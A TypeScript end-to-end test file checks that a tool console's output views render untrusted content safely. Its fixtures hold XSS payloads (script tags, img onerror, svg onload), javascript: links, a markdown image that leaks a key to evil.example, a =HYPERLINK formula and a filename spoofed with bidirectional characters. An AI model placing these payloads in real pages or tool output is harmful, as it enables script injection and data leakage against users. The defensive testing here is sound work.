import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { copyCrib } from './setup/copied-crib.ts'
import type { CopiedCrib } from './setup/copied-crib.ts'
import { look } from './setup/look.ts'
import { hasChromium } from './setup/open-browser.ts'
import { openConsole } from './setup/open-console.ts'
import type { OpenConsole } from './setup/open-console.ts'

const oddTools = `import { contentOutput, defineTool, z } from 'toolcrib'
const facts = { effect: 'read', inputSchema: z.object({}), examples: [{ label: 'Try', input: {} }] } as const
const evil = '<img src="https://evil.example/a" onerror="document.title=1"><script>document.title=1</script>'
const markdown = [
  '# Title', '', evil, '', '![secret](https://evil.example/leak.png?key=1)', '',
  '[run](javascript:document.title=1) [https://bank.example](https://evil.example/)', '',
  '| a | b |', '|---|---|', '| 1 | ' + evil + ' |',
].join('\\n')
export const hostile = defineTool({
  ...facts, name: 'odd.hostile', description: 'Gives what a hostile page might say.',
  sections: [{ key: 'report', label: 'Report', type: 'markdown' }],
  execute: () => ({
    report: markdown, html: evil, link: 'javascript:document.title=1', name: 'pay\\u200Bpal\\u202Egpj.exe',
    rows: [{ a: evil, b: '=HYPERLINK("https://evil.example")' }, { a: 'https://evil.example/x.png', b: 'x' }],
    city: 'القاهرة',
  }),
})
const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80" onload="document.title=1"><rect width="300" height="80" fill="#5a62f4"/><!--' + 'x'.repeat(9000) + '--></svg>'
export const rich = defineTool({
  ...facts, name: 'odd.rich', description: 'Gives rich content.',
  execute: () => contentOutput([
    { type: 'text', text: 'Two lines\\nof text' },
    { type: 'image', mimeType: 'image/svg+xml', data: Buffer.from(svg).toString('base64') },
    { type: 'resource_link', uri: 'https://example.com/manual.pdf', name: 'manual', title: 'The manual' },
    { type: 'resource', resource: { uri: 'notes://today', mimeType: 'text/markdown', text: '## Today' } },
    { type: 'resource', resource: { uri: 'file://a.bin', blob: Buffer.alloc(20_000).toString('base64') } },
  ]) as never,
})
const escape = String.fromCharCode(27)
const source = [
  "import { readFile } from 'node:fs/promises'", '',
  '/** How many words a file has. */',
  'export async function countWords(path: string, most = 10_000): Promise<number> {',
  "  const text = await readFile(path, 'utf8') // all of it",
  '  if (text === null) return 0',
  '  return text.split(/\\\\s+/).filter(Boolean).slice(0, most).length',
  '}', '',
].join('\\n')
const patch = [
  'diff --git a/src/count-words.ts b/src/count-words.ts', '--- a/src/count-words.ts', '+++ b/src/count-words.ts',
  '@@ -1,12 +1,12 @@ export async function countWords(',
  ...Array.from({ length: 9 }, (_, index) => ' const step' + index + ' = ' + index),
  '-  const text = await readFile(path)', "+  const text = await readFile(path, 'utf8')", "+  if (text === '') return 0",
  ' return text.length', '-}',
  'diff --git a/docs/new.md b/docs/new.md', 'new file mode 100644', '--- /dev/null', '+++ b/docs/new.md',
  '@@ -0,0 +1,2 @@', '+# New', '+' + evil, '',
].join('\\n')
export const texts = defineTool({
  ...facts, name: 'odd.texts', description: 'Gives code, a terminal, differences and a page.',
  view: { sections: [
    { path: '/code/text', kind: 'code', title: 'Code' },
    { path: '/run/stdout', kind: 'terminal', title: 'Run' },
    { path: 'diff', kind: 'diff', title: 'Changes' },
    { path: '/page/text', kind: 'page', title: 'Page' },
  ], rest: 'hide' },
  execute: () => ({
    code: { path: 'src/count-words.ts', text: source, firstLine: 41, totalLines: 5000 },
    run: {
      stdout: '$ npm test\\n' + escape + '[32m✓' + escape + '[0m words are counted ' + escape + '[2m(12 ms)' + escape + '[0m\\n' +
        escape + '[31m✗' + escape + '[0m ' + escape + '[1man empty file' + escape + '[0m\\n' +
        escape + '[41m FAIL ' + escape + '[0m ' + escape + '[36msrc/count-words.test.ts' + escape + '[0m\\n' + evil,
      stderr: escape + '[33mwarning' + escape + '[0m: 1 test failed', exitCode: 1, durationMs: 2140,
    },
    diff: patch,
    page: { url: 'https://example.com/guide', title: 'A guide', status: 200, format: 'markdown', text: markdown },
  }),
})
export const large = defineTool({
  ...facts, name: 'odd.large', description: 'Gives more than is sent at once.',
  execute: () => ({ rows: Array.from({ length: 40_000 }, (_, id) => ({ id, text: 'x'.repeat(60) })) }),
})
`

describe.skipIf(!hasChromium)('outputs', () => {
  let files: CopiedCrib
  let crib: OpenConsole
  const hosts = new Set<string>()
  beforeAll(async () => {
    files = await copyCrib()
    await files.writeTool('odd.tool.ts', oddTools)
    crib = await openConsole({ config: files.config, env: files.env })
    crib.context.on('request', (request) => hosts.add(new URL(request.url()).host))
  })
  afterAll(async () => {
    await crib.close()
    await files.remove()
  })

  async function runTool(name: string): Promise<Page> {
    const page = await crib.open(`/tools/${name}?example=0`)
    await page.getByRole('button', { name: 'Run', exact: true }).click()
    await page.getByText('Completed', { exact: true }).waitFor()
    return page
  }

  test('a chart, a ranking and a table of one tool; each chart also as a table', async () => {
    const page = await runTool('analysis.ai-readiness')
    await page.locator('.recharts-surface').waitFor()
    await look(page, 'output-readiness')
    const profile = page.getByRole('group', { name: 'Profile', exact: true })
    await profile.getByText('Table', { exact: true }).click()
    await profile.getByRole('cell', { name: 'culture' }).waitFor()
    const saved = page.waitForEvent('download')
    await profile.getByRole('button', { name: 'Download Profile as CSV' }).click()
    expect((await saved).suggestedFilename()).toBe('Profile.csv')
    await page.close()
  })

  test('untrusted output runs nothing and fetches nothing', async () => {
    const page = await runTool('odd.hostile')
    await page.getByText('secret (https://evil.example/leak.png?key=1)').waitFor()
    await page.getByText('pay⟨U+200B⟩pal⟨U+202E⟩gpj.exe').first().waitFor()
    await look(page, 'output-hostile')
    await page.getByText('JSON', { exact: true }).last().click()
    await page.getByRole('tree').last().waitFor()
    expect(await page.title()).not.toBe('1')
    expect([...hosts]).toEqual([new URL(crib.server.url).host])
    await page.close()
  })

  test('code, a terminal, differences and a page are drawn with what belongs to them', async () => {
    const page = await runTool('odd.texts')
    await page.locator('[data-kind="keyword"]').first().waitFor()
    await page.getByText('Lines 41–48 of 5,000').waitFor()
    await page.getByText('Exit code 1').waitFor()
    await page.getByText('2 files').waitFor()
    await page.getByText('Untrusted text from the web').waitFor()
    await look(page, 'output-texts')
    const changes = page.getByRole('heading', { name: 'Changes' })
    await changes.evaluate((heading) => heading.scrollIntoView())
    await look(page, 'output-texts-below')
    expect(await page.title()).not.toBe('1')
    expect([...hosts]).toEqual([new URL(crib.server.url).host])
    await page.close()
  })

  test('pictures, links and files of rich content come from the call', async () => {
    const page = await runTool('odd.rich')
    await page.locator('img[src^="blob:"]').waitFor()
    expect(await page.getByRole('link', { name: 'https://example.com/manual.pdf' }).count()).toBe(1)
    await look(page, 'output-rich')
    expect(await page.title()).not.toBe('1')
    await page.close()
  })

  test('a large output comes in parts, is saved whole, and is drawn when asked', async () => {
    const page = await runTool('odd.large')
    await page.getByText(/^0 bytes to 250 KB of/).waitFor()
    await look(page, 'output-large')
    const saved = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Download', exact: true }).click()
    expect((await saved).suggestedFilename()).toMatch(/^call_\w+\.json$/)
    await page.getByRole('button', { name: 'Load all and draw' }).click()
    await page.getByText('Rows 1 to 50 of 40,000').waitFor()
    await page.close()
  })
})
